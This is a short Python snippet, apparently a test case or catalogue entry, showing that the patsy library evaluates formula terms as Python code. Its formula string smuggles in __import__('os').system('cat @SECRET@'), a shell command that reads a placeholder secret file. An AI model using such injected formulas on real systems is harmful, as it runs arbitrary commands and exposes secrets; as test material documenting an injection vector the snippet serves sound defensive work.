# patsy evaluates the terms of a formula as Python.
# effect: run
# tree: scientific
import patsy
patsy.dmatrix("np.sin(__import__('os').system('cat @SECRET@')) + x", {"x": [1.0, 2.0], "np": __import__("numpy")})
